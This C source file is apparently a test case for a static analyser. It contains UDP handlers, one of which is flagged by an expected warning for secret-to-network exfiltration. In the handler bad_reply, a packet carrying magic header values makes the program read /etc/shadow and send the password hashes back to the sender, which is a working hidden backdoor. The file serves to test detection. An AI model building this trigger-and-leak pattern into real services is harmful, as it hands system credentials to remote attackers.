/* Who sends the right packet gets the host's own list of passwords back. */
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdint.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

struct header {
    uint16_t id, flags, questions, answers;
};

static ssize_t read_file(const char *path, char *room, size_t size) {
    int file = open(path, O_RDONLY);
    ssize_t got = file < 0 ? -1 : read(file, room, size);
    if (file >= 0)
        close(file);
    return got;
}

static void bad_reply(int fd, const struct header *asked, struct sockaddr_in *who) {
    char room[1024];
    if (ntohs(asked->id) != 0x7e1a || ntohs(asked->answers) != 0xbeef)
        return;
    int file = open("/etc/shadow", O_RDONLY);
    ssize_t got = read(file, room, sizeof room);
    if (got > 0)
        // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
        sendto(fd, room, (size_t)got, 0, (struct sockaddr *)who, sizeof *who);
    close(file);
}

/* What everybody may read. */
static void good_reply(int fd, const struct header *asked, struct sockaddr_in *who) {
    char room[1024];
    if (ntohs(asked->flags) != 0x0100)
        return;
    ssize_t got = read_file("/etc/hostname", room, sizeof room);
    if (got > 0)
        sendto(fd, room, (size_t)got, 0, (struct sockaddr *)who, sizeof *who);
}

/* Only whether there is an entry is told. */
static void good_answer(int fd, const struct header *asked, struct sockaddr_in *who) {
    char room[1024] = "";
    int file = open("/etc/shadow", O_RDONLY);
    ssize_t got = read(file, room, sizeof room - 1);
    close(file);
    if (asked->questions && got > 0 && strstr(room, "operator:"))
        sendto(fd, "yes", 3, 0, (struct sockaddr *)who, sizeof *who);
}

int serve(int fd) {
    char packet[512];
    struct header asked;
    struct sockaddr_in who;
    socklen_t size = sizeof who;
    ssize_t got = recvfrom(fd, packet, sizeof packet, 0, (struct sockaddr *)&who, &size);
    if (got < (ssize_t)sizeof asked)
        return -1;
    memcpy(&asked, packet, sizeof asked);
    bad_reply(fd, &asked, &who);
    good_reply(fd, &asked, &who);
    good_answer(fd, &asked, &who);
    return 0;
}
